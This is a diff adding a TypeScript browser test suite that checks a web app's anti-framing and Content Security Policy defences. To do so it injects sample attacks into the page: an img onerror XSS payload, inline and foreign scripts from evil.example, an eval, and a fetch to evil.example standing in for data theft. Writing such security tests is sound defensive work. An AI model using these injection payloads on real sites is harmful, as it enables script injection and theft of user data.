@@ -1,0 +1,79 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { describe, expect } from 'vitest'
+import { journey } from './journey.ts'
+
+const refused = /Content Security Policy|frame-ancestors|TrustedHTML|TrustedScript|Trusted Types/
+
+// Where Chromium goes instead.
+const blocked = 'chrome-error://chromewebdata/'
+
+/** A site of somebody else's, on another origin, that shows ours in a frame. */
+async function framingSite(framed: string) {
+  const server = createServer((_request, response) => {
+    response.setHeader('content-type', 'text/html')
+    response.end(`<title>Somebody else</title><iframe src="${framed}" width="800" height="600"></iframe>`)
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as AddressInfo
+  return { url: `http://127.0.0.1:${port}/`, stop: () => server.close() }
+}
+
+/** What an attacker would try who can change the page, and what came of it. */
+const attempts = `(async () => {
+  const reports = []
+  document.addEventListener('securitypolicyviolation', (event) => reports.push(event.effectiveDirective))
+  const tried = (work) => { try { work(); return 'done' } catch (error) { return error.name } }
+  const script = document.createElement('script')
+  const inline = tried(() => { script.append('window.taken = "inline"'); document.body.append(script) })
+  const elsewhere = document.createElement('script')
+  const foreign = tried(() => { elsewhere.src = 'https://evil.example/x.js'; document.body.append(elsewhere) })
+  const html = tried(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.taken = 1">') })
+  const handler = tried(() => { document.body.setAttribute('onclick', 'window.taken = 2'); document.body.click() })
+  const style = document.createElement('style')
+  style.append('body { outline: 7px solid red }')
+  document.head.append(style)
+  const stolen = await fetch('https://evil.example/').then(() => 'sent', () => 'refused')
+  // By now this is no longer what the test itself has sent, which may evaluate.
+  const evaluated = await new Promise((resolve) =>
+    setTimeout(() => resolve(tried(() => (0, eval)('window.taken = "eval"'))), 200))
+  const { outlineStyle } = getComputedStyle(document.body)
+  return { inline, foreign, html, handler, evaluated, stolen, outlineStyle, taken: window.taken ?? null, reports }
+})()`
+
+describe('the walls of the browser', () => {
+  journey('H02 our pages show in nobody’s frame', async ({ app, browser, visit }) => {
+    for (const path of ['/', '/login', '/safety']) {
+      const site = await framingSite(app.origin + path)
+      const context = await browser.newContext()
+      const page = await context.newPage()
+      const said: string[] = []
+      page.on('console', (message) => said.push(message.text()))
+      await page.goto(site.url, { waitUntil: 'load' })
+      expect(await page.title()).toBe('Somebody else')
+      await expect.poll(() => said.some((text) => /frame-ancestors/.test(text)), { timeout: 5_000 }).toBe(true)
+      const inside = page.frames().filter((frame) => frame !== page.mainFrame())
+      expect(inside).toHaveLength(1)
+      expect(inside[0]?.url()).toBe(blocked)
+      await context.close()
+      site.stop()
+    }
+    const own = await visit('/safety', { provoked: refused })
+    await own.evaluate("document.body.append(Object.assign(document.createElement('iframe'), { src: '/login' }))")
+    await expect.poll(() => own.frames().at(-1)?.url(), { timeout: 5_000 }).toBe(blocked)
+  })
+
+  journey('H03 what is put into a page does not run', async ({ visit, aMember }) => {
+    const member = await aMember({}, { provoked: refused })
+    for (const page of [await visit('/', { provoked: refused }), member.page]) {
+      if (page === member.page) await page.goto('/dashboard')
+      await page.locator('main').first().waitFor()
+      const outcome = await page.evaluate<Record<string, unknown>>(attempts)
+      expect(outcome).toMatchObject({ taken: null, outlineStyle: 'none', stolen: 'refused', evaluated: 'EvalError' })
+      expect(outcome.html).toBe('TypeError')
+      expect(outcome.reports).toEqual(
+        expect.arrayContaining(['require-trusted-types-for', 'style-src-elem', 'connect-src']),
+      )
+    }
+  })
+})
